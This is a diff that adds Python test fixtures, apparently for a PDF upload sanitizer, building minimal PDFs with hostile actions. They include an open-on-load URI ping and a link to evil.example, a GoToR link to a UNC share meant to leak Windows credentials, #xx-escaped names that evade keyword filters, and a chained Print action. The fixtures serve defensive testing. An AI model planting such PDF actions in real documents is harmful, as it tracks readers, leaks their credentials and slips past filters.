@@ -222,3 +222,64 @@ def multipart(fields: dict[str, str], file_field: str, filename: str, content: b
     )
     lines.append(f"--{boundary}--\r\n".encode())
     return b"".join(lines), f"multipart/form-data; boundary={boundary}"
+
+
+# --- issue 11: links out and actions on opening ---------------------------------
+
+
+def pdf_open_action_uri() -> bytes:
+    """Opening the file sends the reader's browser to a URL (a tracking ping)."""
+    return raw_pdf(
+        [
+            b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (https://evil.example/ping) >> >>",
+            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
+        ]
+    )
+
+
+def pdf_link_uri() -> bytes:
+    """A link annotation to a URL on the page."""
+    return raw_pdf(
+        [
+            b"<< /Type /Catalog /Pages 2 0 R >>",
+            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
+            b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (https://evil.example/) >> >>",
+        ]
+    )
+
+
+def pdf_gotor() -> bytes:
+    """A link to a remote file (\\\\host\\share: Windows would send its credentials)."""
+    return raw_pdf(
+        [
+            b"<< /Type /Catalog /Pages 2 0 R >>",
+            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
+            b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F (\\\\\\\\evil.example\\\\s\\\\x.pdf) /D [0 /Fit] >> >>",
+        ]
+    )
+
+
+def pdf_hex_escaped_open_action() -> bytes:
+    """/Open#41ction << /S /#55RI ... >>: the names spelt with #xx escapes."""
+    return raw_pdf(
+        [
+            b"<< /Type /Catalog /Pages 2 0 R /Open#41ction << /S /#55RI /#55#52#49 (https://evil.example/) >> >>",
+            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
+        ]
+    )
+
+
+def pdf_indirect_open_action() -> bytes:
+    """An /OpenAction that points to an action object (any action runs on opening)."""
+    return raw_pdf(
+        [
+            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
+            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
+            b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /Named /N /Print >> >>",
+        ]
+    )
